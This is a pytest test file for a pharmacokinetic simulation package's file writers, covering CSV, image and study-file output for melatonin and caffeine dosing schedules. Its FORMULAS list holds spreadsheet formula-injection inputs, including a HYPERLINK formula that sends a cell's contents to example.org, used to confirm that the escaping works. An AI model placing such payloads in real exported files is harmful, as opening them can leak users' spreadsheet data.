import csv
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

import pksim as pk
from pksim import metrics
from pksim.show.pages import contents
from pksim.show.pages.files import write_claims, write_population, write_simulation, write_timing

NAMES = ["curves.csv", "curves.png", "curves.svg", "doses.png", "metrics.csv", "sources.csv", "study.toml"]


def listed(folder):
    return sorted(path.name for path in Path(folder).iterdir())


def test_all_results_are_written_into_a_new_folder(solve, tmp_path):
    simulation = solve(mine="melatonin 1 mg 60 min before bed; magnesium 300 mg elemental at 21:00")
    folder = tmp_path / "deep" / "results"
    files = write_simulation(simulation, folder)
    assert listed(folder) == sorted(file.name for file in files) == NAMES
    with Image.open(folder / "curves.png") as image:
        image.verify()
    assert (folder / "curves.svg").read_text(encoding="utf-8").rstrip().endswith("</svg>")
    curves = pd.read_csv(folder / "curves.csv")
    assert list(curves) == ["schedule", "compound", "time_h", "clock", "concentration", "unit"]
    pd.testing.assert_frame_equal(curves, simulation.to_frame(), check_dtype=False, rtol=1e-14)
    table = pd.read_csv(folder / "metrics.csv", index_col=["schedule", "compound"])
    pd.testing.assert_frame_equal(table, metrics(simulation), check_dtype=False, rtol=1e-14)


def test_nothing_is_written_when_a_picture_cannot_be_drawn(solve, tmp_path, monkeypatch):
    from pksim.show.figures.sheet import NightFigure

    def save(self, target, kind):
        if kind == "svg":
            raise MemoryError
        target.write(b"x")

    monkeypatch.setattr(NightFigure, "save", save)
    with pytest.raises(MemoryError):
        write_simulation(solve(mine="melatonin 1 mg at bedtime"), tmp_path / "out")
    assert listed(tmp_path) == []


FORMULAS = ['=HYPERLINK("https://example.org?"&A1, "x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " \n=1", "＝1"]
PLAIN = ["mine - 1", "1+1", "'quoted", "a=b", "x\r=1"]


def cells(path):
    """Every cell of a table as a spreadsheet reads it."""
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_number(cell):
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


@pytest.fixture(scope="module")
def doses_of_names():
    return [pk.Schedule.parse(name, "melatonin 1 mg 60 min before bed") for name in (*FORMULAS, *PLAIN)]


@pytest.fixture(scope="module")
def written(doses_of_names, tmp_path_factory):
    """All tables that are written of schedules with such names, and of a compound with one."""
    folder = tmp_path_factory.mktemp("tables")
    caffeine = pk.load_compounds()["melatonin"].model_copy(update={"name": "=caffeine"})
    cup = pk.Schedule("cup", (pk.Dose("=caffeine", 1, time_h=-1),))
    three = [each.nightly(range(1, 4), name=each.name) for each in doses_of_names]
    write_simulation(pk.simulate([*three, cup], nights=3, step_min=60, compounds=[caffeine]), folder)
    own = {"compounds": [caffeine], "step_min": 60}
    write_population(pk.simulate_population([*doses_of_names, cup], subjects=3, **own), folder)
    write_timing(pk.best_timing(doses_of_names[0], goal=pk.peak_at(0), step_min=60), folder)
    write_claims([{"claim": each, "model_low": -1.5} for each in FORMULAS], folder)
    return folder


def test_no_text_in_a_table_is_a_formula_for_a_spreadsheet(written):
    tables = sorted(written.glob("*.csv"))
    assert len(tables) == 9
    for table in tables:
        found = [
            cell for cell in cells(table) if cell.lstrip().startswith(tuple("=+-@＝＋－＠")) and not is_number(cell)
        ]
        assert found == [], table.name


@pytest.mark.parametrize("table", ["curves.csv", "metrics.csv", "nights.csv", "bands.csv", "bands-metrics.csv"])
def test_an_apostrophe_stands_before_such_a_name_and_no_other(written, table):
    with (written / table).open(encoding="utf-8", newline="") as file:
        names = {row["schedule"] for row in csv.DictReader(file)}
    shown = {name: name.replace("\t", r"\t").replace("\r", r"\r") for name in (*FORMULAS, *PLAIN)}
    assert names == {f"'{shown[name]}" for name in FORMULAS} | {*(shown[name] for name in PLAIN), "cup"}


def test_numbers_stay_numbers(written, doses_of_names):
    frame = pd.read_csv(written / "curves.csv")
    assert frame["time_h"].min() == -4
    assert frame["concentration"].dtype == float
    assert pd.read_csv(written / "claims.csv")["model_low"].tolist() == [-1.5] * len(FORMULAS)
    assert "'=caffeine.tmax_h" in cells(written / "sleepers.csv")


def test_where_nothing_is_like_a_formula_tables_are_as_pandas_writes_them(solve, tmp_path):
    simulation = solve(mine="melatonin 1 mg 60 min before bed; magnesium 300 mg elemental at 21:00")
    write_simulation(simulation, tmp_path)
    assert (tmp_path / "curves.csv").read_text() == simulation.to_frame().to_csv(index=False)
    assert (tmp_path / "metrics.csv").read_text() == metrics(simulation).to_csv()


def test_a_study_file_keeps_such_names_exactly(written, doses_of_names):
    read = pk.load_study(written / "study.toml")
    assert set(read.schedules) == {*(each.name for each in doses_of_names), "cup"}
    assert "=caffeine" in read.compounds


def test_what_is_no_number_is_an_empty_cell_in_an_array_and_in_a_list():
    numbers = {"array": np.array([1.5, np.nan]), "list": [np.nan, 2]}
    others = {"whole": np.array([3, 4]), "so": np.array([True, False])}
    lines = contents.table(numbers | others).decode().splitlines()
    assert lines == ["array,list,whole,so", "1.5,,3,True", ",2,4,False"]
